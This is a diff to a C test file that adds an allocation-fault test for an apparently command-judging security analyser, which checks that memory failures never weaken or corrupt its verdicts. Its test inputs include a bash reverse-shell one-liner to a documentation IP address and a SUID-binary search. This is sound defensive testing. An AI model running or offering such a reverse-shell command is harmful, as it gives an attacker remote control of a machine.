@@ -189,6 +189,71 @@ static void test_alloc_faults(void **st) {
     assert_true(successes >= 1);   /* the last steps lie past every allocation */
 }
 
+/* The verdict without its latency (the only field that differs run to run). */
+static char *verdict_text(json_t *v) {
+    json_t *c = json_deep_copy(v);
+    assert_non_null(c);
+    json_object_del(c, "latency_ms");
+    char *t = json_dumps(c, JSON_COMPACT | JSON_SORT_KEYS);
+    json_decref(c);
+    assert_non_null(t);
+    return t;
+}
+
+/* The non-model path (rules, then "benign, no rule matched") under an
+ * allocation failure at every point: each judgement either fails with a
+ * negative code, a sentence and no verdict, or returns exactly the verdict
+ * of a run without faults.  An allocation failure must never pass as a
+ * weaker verdict (a missed rule hit read as "benign") or a verdict with a
+ * field missing; nothing leaks. */
+static void test_judge_alloc_faults(void **st) {
+    (void)st;
+    static const char *const cmds[] = {
+        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",          /* high: malicious */
+        "find / -perm -4000 -type f 2>/dev/null",               /* medium: suspicious */
+        "git status",                                           /* no rule */
+    };
+    analyst *a = new_analyst(false, false, false);
+    for (size_t i = 0; i < NJ_ARRAY_LEN(cmds); i++) {
+        json_t *ev = cmd_event(cmds[i], (long)i);
+        json_t *v = NULL;
+        assert_int_equal(analyst_judge(a, NULL, NULL, ev, &v), 0);
+        char *want = verdict_text(v);
+        json_decref(v);
+        size_t base = nj_mem_in_use();
+        bool completed = false;
+        int failures = 0;
+        for (long k = 0; k < 100000 && !completed; k++) {
+            nj_clear_error();
+            nj_alloc_fail_after(k);
+            v = NULL;
+            int rc = analyst_judge(a, NULL, NULL, ev, &v);
+            nj_alloc_fail_after(-1);
+            if (rc == 0) {
+                assert_non_null(v);
+                char *got = verdict_text(v);
+                if (strcmp(got, want) != 0)
+                    fail_msg("%s, allocation %ld failed: the verdict differs from the reference\n%s\n%s",
+                             cmds[i], k, got, want);
+                nj_free(got);
+                json_decref(v);
+                completed = true;
+            } else {
+                if (rc != -ENOMEM) fail_msg("%s k=%ld: %d (%s)", cmds[i], k, rc, nj_last_error());
+                assert_null(v);
+                assert_true(nj_last_error()[0] != 0);
+                failures++;
+            }
+            if (nj_mem_in_use() != base) fail_msg("%s k=%ld: %zu bytes leaked", cmds[i], k, nj_mem_in_use() - base);
+        }
+        assert_true(completed);
+        assert_true(failures >= 1);
+        nj_free(want);
+        json_decref(ev);
+    }
+    analyst_free(a);
+}
+
 /* ---- with a model ---- */
 
 typedef struct smol {
@@ -297,6 +362,7 @@ int main(void) {
         cmocka_unit_test(test_rules_only),
         cmocka_unit_test(test_bad_prompt_dir),
         cmocka_unit_test(test_alloc_faults),
+        cmocka_unit_test(test_judge_alloc_faults),
         cmocka_unit_test(test_model_path),
         cmocka_unit_test(test_rule_floor_and_injection),
     };
